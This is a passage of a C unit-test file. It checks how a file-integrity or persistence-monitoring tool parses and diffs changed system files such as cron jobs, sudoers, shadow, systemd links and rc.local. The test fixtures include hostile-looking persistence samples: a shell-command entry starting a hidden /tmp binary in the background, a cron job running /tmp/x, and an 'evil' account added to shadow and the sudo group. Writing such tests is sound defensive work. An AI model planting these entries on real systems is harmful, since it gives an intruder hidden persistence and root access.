	      "commands.0.line", "2", NULL, NULL, "(shell-command \"/tmp/.e &\")"),
};

#define N_CASES (sizeof(cases) / sizeof(cases[0]))

static size_t case_len(const struct item_case *c)
{
	return c->len ? c->len : strlen(c->text);
}

/* The member at a dotted path ("a.0.b") as compact JSON, or "<absent>"; free() it. */
static char *member(json_t *root, const char *path)
{
	char part[64];
	const char *dot;
	json_t *j = root;
	size_t n;

	while (j && *path) {
		dot = strchr(path, '.');
		n = dot ? (size_t)(dot - path) : strlen(path);
		assert_true(n < sizeof(part));
		memcpy(part, path, n);
		part[n] = '\0';
		if (json_is_array(j))
			j = json_array_get(j, strtoul(part, NULL, 10));
		else
			j = json_object_get(j, part);
		path += n + (dot != NULL);
	}
	if (!j)
		return strdup("<absent>");
	return json_dumps(j, JSON_ENCODE_ANY | JSON_COMPACT | JSON_SORT_KEYS);
}

static void expect_member(const struct item_case *c, json_t *root, const char *path,
			  const char *want)
{
	char *got;

	if (!path)
		return;
	got = member(root, path);
	assert_non_null(got);
	if (strcmp(got, want))
		fail_msg("%s %s: %s is %s, want %s", c->id, c->path, path, got, want);
	free(got);
}

/* Dumps j and loads it back with default flags: it must be equal (valid UTF-8, no NUL). */
static char *roundtrip(json_t *j)
{
	char *s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
	json_error_t err;
	json_t *back;

	assert_non_null(s);

	back = json_loads(s, 0, &err);
	if (!back)
		fail_msg("%s does not load back: %s", s, err.text);
	assert_true(json_equal(j, back));
	json_decref(back);
	return s;
}

/* An object is one line of valid UTF-8, at most 1024 bytes, without blanks at the ends. */
static void check_object(const char *o)
{
	size_t i, n;

	if (!o)
		return;
	n = strlen(o);
	assert_true(n > 0 && n <= 1024);
	assert_true(fh_utf8_valid(o, n));
	for (i = 0; i < n; i++)
		assert_false((unsigned char)o[i] < 0x20 || o[i] == 0x7f);
	assert_false(o[0] == ' ' || o[n - 1] == ' ');
}

static json_t *item(const char *id, const char *path, const char *old, size_t old_len,
		    enum fh_detail_content kind, const char *text, size_t len, char **ret_object)
{
	struct fh_item_type t = { .id = id, .mitre = "T0000", .name = id };

	return fh_detail_item(&t, path, old, old_len, kind, text, len, ret_object);
}

/* Every case: the parser, two members, the object, exactly. */
static void test_cases(void **state)
{
	const struct item_case *c;
	char *object, *want_parser, *got;
	json_t *j;
	size_t i;

	(void)state;
	for (i = 0; i < N_CASES; i++) {
		c = &cases[i];
		object = (char *)"unset";
		j = item(c->id, c->path, c->old, c->old ? strlen(c->old) : 0, c->kind, c->text,
			 case_len(c), &object);
		assert_non_null(j);
		free(roundtrip(j));
		want_parser = malloc(strlen(c->parser) + 3);
		assert_non_null(want_parser);
		sprintf(want_parser, "\"%s\"", c->parser);
		expect_member(c, j, "parser", want_parser);
		free(want_parser);
		expect_member(c, j, c->at, c->want);
		expect_member(c, j, c->at2, c->want2);
		if (!c->old)
			expect_member(c, j, "diff", "<absent>");
		got = object;
		if (c->object ? !got || strcmp(got, c->object) : got != NULL)
			fail_msg("%s %s: object is \"%s\", want \"%s\"", c->id, c->path,
				 got ? got : "(null)", c->object ? c->object : "(null)");
		check_object(object);
		free(object);
		json_decref(j);
	}
}

/* The cases cover every type of the shipped catalog, and their paths are of their type. */
static void test_cases_cover_catalog(void **state)
{
	static const struct fh_home homes[] = { { "root", 0, "/root" },
						{ "alice", 1000, "/home/alice" } };
	struct fh_catalog *cat = fh_catalog_new();
	struct fh_catalog_error e;
	struct fh_match m;
	char path[512], *text;
	size_t i, k, len;
	long n;
	FILE *f;
	bool found;

	(void)state;
	assert_non_null(cat);
	snprintf(path, sizeof(path), "%s/data/catalog.txt", FH_SOURCE_ROOT);
	f = fopen(path, "rb");
	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	text = malloc((size_t)n + 1);
	assert_non_null(text);
	len = fread(text, 1, (size_t)n, f);
	fclose(f);
	assert_int_equal(fh_catalog_parse(cat, "catalog.txt", text, len, &e), 0);
	assert_int_equal(fh_catalog_set_homes(cat, homes, 2), 0);
	assert_int_equal(fh_catalog_type_count(cat), 59);
	for (k = 0; k < fh_catalog_type_count(cat); k++) {
		found = false;
		for (i = 0; i < N_CASES; i++)
			found = found || !strcmp(cases[i].id, fh_catalog_type(cat, k)->id);
		if (!found)
			fail_msg("no case for type %s", fh_catalog_type(cat, k)->id);
	}
	for (i = 0; i < N_CASES; i++) {
		if (cases[i].nomatch)
			continue;
		if (!fh_catalog_match(cat, cases[i].path, &m))
			fail_msg("%s is not an item", cases[i].path);
		if (strcmp(m.type->id, cases[i].id))
			fail_msg("%s is %s, not %s", cases[i].path, m.type->id, cases[i].id);
	}
	fh_catalog_free(cat);
	free(text);
}

/* Gone, unreadable or a directory: an object that says so, and no object. */
static void test_none(void **state)
{
	char *object = (char *)"unset", *s;
	json_t *j;

	(void)state;
	j = item("cron-d", "/etc/cron.d/x", "* * * * * root /x\n", 18, FH_CONTENT_NONE, NULL, 0,
		 &object);
	assert_non_null(j);
	s = roundtrip(j);
	assert_string_equal(s, "{\"content\":\"none\",\"parser\":\"none\"}");
	assert_null(object);
	free(s);
	json_decref(j);
	/* A file whose content could not be read is the same. */
	object = (char *)"unset";
	j = item("cron-d", "/etc/cron.d/x", NULL, 0, FH_CONTENT_FILE, NULL, 0, &object);
	s = roundtrip(j);
	assert_string_equal(s, "{\"content\":\"none\",\"parser\":\"none\"}");
	assert_null(object);
	free(s);
	json_decref(j);
}

/* A link target with control characters: kept in the JSON, spaces in the object. */
static void test_symlink_hostile(void **state)
{
	static const char target[] = "/tmp/a\nb\x1b[31m\xc2\x85z\xff\0q";
	char *object = NULL, *s;
	json_t *j;

	(void)state;
	j = item("systemd-enable-link", "/etc/systemd/system/x.target.wants/y.service", NULL, 0,
		 FH_CONTENT_SYMLINK, target, sizeof(target) - 1, &object);
	assert_non_null(j);
	s = roundtrip(j);
	assert_string_equal(s, "{\"parser\":\"symlink\",\"target\":\"/tmp/a\\nb\\u001B[31m\xc2\x85z"
			       "\xef\xbf\xbd\xef\xbf\xbdq\"}");
	assert_string_equal(object, "/tmp/a b [31m z\xef\xbf\xbd\xef\xbf\xbdq");
	free(object);
	free(s);
	json_decref(j);
}

/* The diff only when the content changed; never for account databases. */
static void test_diff_only_when_changed(void **state)
{
	static const char a[] = "* * * * * root /bin/true\n", b[] = "* * * * * root /tmp/x\n";
	json_t *j;
	char *got;

	(void)state;
	j = item("cron-d", "/etc/cron.d/x", a, strlen(a), FH_CONTENT_FILE, a, strlen(a), NULL);
	got = member(j, "diff");
	assert_string_equal(got, "<absent>");
	free(got);
	json_decref(j);
	j = item("cron-d", "/etc/cron.d/x", a, strlen(a), FH_CONTENT_FILE, b, strlen(b), NULL);
	got = member(j, "diff");
	assert_string_equal(got,
			    "{\"added\":[{\"line\":1,\"text\":\"* * * * * root /tmp/x\"}],"
			    "\"removed\":[{\"line\":1,\"text\":\"* * * * * root /bin/true\"}]}");
	free(got);
	json_decref(j);
	/* Same length, one byte differs. */
	j = item("sudoers", "/etc/sudoers", "a ALL=(ALL) ALL\n", 16, FH_CONTENT_FILE,
		 "b ALL=(ALL) ALL\n", 16, NULL);
	got = member(j, "diff.added.0.text");
	assert_string_equal(got, "\"b ALL=(ALL) ALL\"");
	free(got);
	json_decref(j);
	/* Binaries: no line diff, however they differ. */
	j = item("shared-object", "/usr/lib/x86_64-linux-gnu/libx.so.1",
		 "\x7f"
		 "ELF\2\1\1a\nb\n",
		 10, FH_CONTENT_FILE,
		 "\x7f"
		 "ELF\2\1\1a\nc\n",
		 10, NULL);
	got = member(j, "diff");
	assert_string_equal(got, "<absent>");
	free(got);
	json_decref(j);
}

/* Shadow and gshadow: a hash from the input never appears in the output or the object. */
static void test_no_hash(void **state)
{
	static const char *const hashes[] = { "OLDSALTxyz", "abcdefghijklmnop", "NEWSALTq",
					      "QWERTYhashvalue1234", "GSHASHzz9" };
	static const char old_shadow[] = "root:$6$OLDSALTxyz$abcdefghijklmnop:19000:0:99999:7:::\n";
	static const char new_shadow[] =
	    "root:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n"
	    "evil:$6$NEWSALTq$QWERTYhashvalue1234:19500:0:99999:7:::\n";
	static const char gshadow[] = "sudo:$6$GSHASHzz9$QWERTYhashvalue1234:root:alice,evil\n";
	static const struct {
		const char *id, *path, *old, *text;
	} runs[] = {
		{ "account-db", "/etc/shadow", old_shadow, new_shadow },
		{ "account-db", "/etc/shadow", NULL, new_shadow },
		{ "account-db", "/etc/gshadow", old_shadow, gshadow },
		{ "account-db", "/etc/gshadow", NULL, gshadow },
		/* A catalog that files /etc/shadow under another type changes nothing. */
		{ "shell-rc-user", "/etc/shadow", old_shadow, new_shadow },
		{ "", "/backup/gshadow", NULL, gshadow },
	};
	char *object, *s, *got;
	json_t *j;
	size_t i, k;

	(void)state;
	for (i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
		object = NULL;
		j = item(runs[i].id, runs[i].path, runs[i].old,
			 runs[i].old ? strlen(runs[i].old) : 0, FH_CONTENT_FILE, runs[i].text,
			 strlen(runs[i].text), &object);
		assert_non_null(j);
		s = roundtrip(j);
		for (k = 0; k < sizeof(hashes) / sizeof(hashes[0]); k++) {
			if (strstr(s, hashes[k]))
				fail_msg("%s: hash %s in %s", runs[i].path, hashes[k], s);
			assert_false(object && strstr(object, hashes[k]));
		}
		assert_null(strstr(s, "$6$"));
		got = member(j, "diff");
		assert_string_equal(got, "<absent>");
		free(got);
		free(s);
		free(object);
		json_decref(j);
	}
	/* And shadow's own detail still says what changed. */
	j = item("account-db", "/etc/shadow", old_shadow, strlen(old_shadow), FH_CONTENT_FILE,
		 new_shadow, strlen(new_shadow), NULL);
	got = member(j, "added.0");
	assert_string_equal(got, "{\"expire\":\"\",\"inactive\":\"\",\"lastchg\":\"19500\","
				 "\"line\":2,\"max\":\"99999\",\"min\":\"0\",\"name\":\"evil\","
				 "\"password\":\"set\",\"warn\":\"7\"}");
	free(got);
	got = member(j, "parser");
	assert_string_equal(got, "\"shadow\"");
	free(got);
	json_decref(j);
}

/* A command longer than the object's bound is cut at a character boundary. */
static void test_object_bound(void **state)
{
	struct fh_buf b = { 0 };
	char *object = NULL;
	json_t *j;
	size_t i;

	(void)state;
	fh_buf_append(&b, "#!/bin/sh\n", 10);
	for (i = 0; i < 2000; i++)
		fh_buf_append(&b, "\xe2\x82\xac", 3); /* U+20AC, three bytes */
	fh_buf_append(&b, "\n", 1);
	assert_false(b.oom);
	j = item("rc-local", "/etc/rc.local", NULL, 0, FH_CONTENT_FILE, b.data, b.len, &object);
	assert_non_null(j);
	assert_non_null(object);
	assert_int_equal(strlen(object), 1023);
	check_object(object);
	free(object);
	json_decref(j);
	fh_buf_free(&b);
}

/* No type, or a type added by a user's catalog: a text summary, or a script. */
static void test_unknown_type(void **state)
{
	char *object = NULL, *got;
	json_t *j;

	(void)state;
	j = fh_detail_item(NULL, NULL, NULL, 0, FH_CONTENT_FILE, "a\n# b\n", 6, &object);
	assert_non_null(j);
	got = member(j, "content");
	assert_string_equal(got, "[{\"line\":1,\"text\":\"a\"}]");
	assert_null(object);
	free(got);
	json_decref(j);
	j = item("my-type", "/opt/x/run", NULL, 0, FH_CONTENT_FILE, "#!/bin/sh\nrun\n", 14,
		 &object);
	got = member(j, "parser");
	assert_string_equal(got, "\"script\"");
	assert_string_equal(object, "run");
	free(got);
	free(object);
	json_decref(j);
}

/* Hostile content for every case's type and path: valid JSON, a valid object, no crash. */
static void test_hostile(void **state)
{
	static const char b1[] = "\xff\xfe\xc0\xaf=\xed\xa0\x80:\xf4\x90\x80\x80\n";
	static const char b2[] = "a\0b=c\n\0\n[\0]\n* * * * * r\0 /x\n";
	static const char b3[] = "\r\r\n\r[x\r]\rExec=\r\n|\r,\r\n";
	static const char b6[] = "\x7f"
				 "EL";
	static const char b7[] =
	    "{\"Path\":\"\\u0000\",\"Args\":[1,{\"a\":\"b\"}]}\n[\n\"\n{{{}}}}";
	struct blob {
		const char *s;
		size_t len;
	} blobs[8];
	struct fh_buf big = { 0 }, big_script = { 0 };
	char *object;
	json_t *j;
	size_t i, k, o, n, p;
	bool first;

	(void)state;
	for (i = 0; i < FH_DETAIL_MAX_INPUT; i += 4)
		fh_buf_append(&big, i % 64 ? "A\xc3(\xe2" : "\xf0\x9f\x98\x80", 4);
	fh_buf_append(&big_script, "#!", 2);
	fh_buf_append(&big_script, big.data, big.len);
	fh_buf_append(&big_script, "\nx\n", 3);
	assert_false(big.oom || big_script.oom);
	blobs[0] = (struct blob){ "", 0 };
	blobs[1] = (struct blob){ b1, sizeof(b1) - 1 };
	blobs[2] = (struct blob){ b2, sizeof(b2) - 1 };
	blobs[3] = (struct blob){ b3, sizeof(b3) - 1 };
	blobs[4] = (struct blob){ big.data, big.len };
	blobs[5] = (struct blob){ big_script.data, big_script.len };
	blobs[6] = (struct blob){ b6, sizeof(b6) - 1 };
	blobs[7] = (struct blob){ b7, sizeof(b7) - 1 };
	for (i = 0; i < N_CASES; i++) {
		/* The 1 MiB blobs cost a dump and a load of megabytes: once per parser. */
		for (first = true, p = 0; p < i; p++)
			first = first && strcmp(cases[p].parser, cases[i].parser);
		for (k = 0; k < 11; k++) {
			if (k < 8 && (k == 4 || k == 5))
				continue;
			if (k >= 8 && !first)
				continue;
			n = k < 8 ? k : k == 8 ? 4 : k == 9 ? 5 : 2;
			o = k < 8 ? (k + 1) % 8 : k == 10 ? 4 : 0;
			if (k < 8 && o == 4)
				o = 6;
			object = NULL;
			j = item(cases[i].id, cases[i].path, o ? blobs[o].s : NULL, blobs[o].len,
				 FH_CONTENT_FILE, blobs[n].s, blobs[n].len, &object);
			if (!j)
				fail_msg("%s %s: no detail for blob %zu", cases[i].id,
					 cases[i].path, n);
			free(roundtrip(j));
			check_object(object);
			free(object);
			json_decref(j);
		}
	}
	/* The 1 MiB line is read whole: one line, and (as text) one content item. */
	j = item("login-shells", "/etc/shells", NULL, 0, FH_CONTENT_FILE, big.data, big.len, NULL);
	assert_int_equal(json_integer_value(json_object_get(j, "lines")), 1);
	assert_int_equal(json_array_size(json_object_get(j, "content")), 1);
	json_decref(j);
	fh_buf_free(&big);
	fh_buf_free(&big_script);
}

/* Past FH_DETAIL_MAX_ITEMS commands, the rest are counted. */
static void test_caps(void **state)
{
	struct fh_buf b = { 0 };
	json_t *j;
	size_t i;

	(void)state;
	for (i = 0; i < FH_DETAIL_MAX_ITEMS + 5; i++)
		fh_buf_append(&b, "echo x\n", 7);
	j = item("motd", "/etc/update-motd.d/10-x", NULL, 0, FH_CONTENT_FILE, b.data, b.len, NULL);
	assert_int_equal(json_array_size(json_object_get(j, "commands")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(j, "commands_total")),
			 FH_DETAIL_MAX_ITEMS + 5);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	json_decref(j);
	fh_buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cases),
		cmocka_unit_test(test_cases_cover_catalog),
		cmocka_unit_test(test_none),
		cmocka_unit_test(test_symlink_hostile),
		cmocka_unit_test(test_diff_only_when_changed),
		cmocka_unit_test(test_no_hash),
		cmocka_unit_test(test_object_bound),
		cmocka_unit_test(test_unknown_type),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_caps),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
